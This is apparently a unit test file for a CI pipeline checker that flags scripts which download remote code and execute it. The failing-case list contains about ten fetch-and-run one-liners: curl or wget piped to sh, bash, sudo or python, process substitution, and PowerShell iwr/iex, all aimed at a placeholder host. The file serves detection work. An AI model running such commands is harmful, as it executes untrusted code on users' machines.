# SPDX-License-Identifier: Apache-2.0
"""script-downloaded."""

from __future__ import annotations

import pytest

from pipeline_guard.gate.checks.script_downloaded import check
from pipeline_guard.gate.facts import Kind
from tests.unit.gate.checking import failing, lines, scripts, whole


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://h.example/i.sh | sh",
        "curl https://h.example/i.sh | sudo -E bash -",
        "wget -qO- https://h.example/i.sh | tee log | bash -s -- --yes",
        "curl -sSL https://h.example | python3 -",
        "bash <(curl -s https://h.example/i.sh)",
        'sh -c "$(curl -fsSL https://h.example/i.sh)"',
        "source <(curl -s https://h.example)",
        "curl https://h.example \\\n  | bash",
        "iwr https://h.example/i.ps1 -useb | iex",
        "iex ((New-Object Net.WebClient).DownloadString('https://h.example/i.ps1'))",
    ],
)
def test_running_what_is_downloaded_fails(command: str) -> None:
    assert lines(check, scripts(f"true\n{command}")) == [7]


@pytest.mark.parametrize(
    "command",
    [
        "curl -o f https://h.example/f && sha256sum --check sums && sh f",
        "curl https://h.example/a.json | jq .",
        "curl https://h.example/a.json | python3 -m json.tool",
        "curl https://h.example/a.json | python3 -c 'import sys'",
        "curl http://localhost:8080/health | sh",
        "echo 'curl x | sh'",
        "# curl https://h.example | sh",
        "curl https://h.example | sh -c 'cat'",
        "cat local.sh | bash",
        "curl https://h.example | grep x && bash own.sh",
    ],
)
def test_data_files_and_own_scripts_pass(command: str) -> None:
    assert failing(check, scripts(command)) == []


def test_dockerfiles_and_gitlab_jobs_are_looked_at_too() -> None:
    files = {
        "Dockerfile": "FROM scratch\nRUN a && \\\n  curl https://h.example | sh\nRUN <<EOF\nwget -O- https://h.example | sh\nEOF\n",
        ".gitlab-ci.yml": "job:\n  script:\n    - curl https://h.example | sh\n",
    }
    assert [lines(check, item) for kind, item in whole(files) if kind is Kind.SCRIPT] == [[3, 5], [3]]
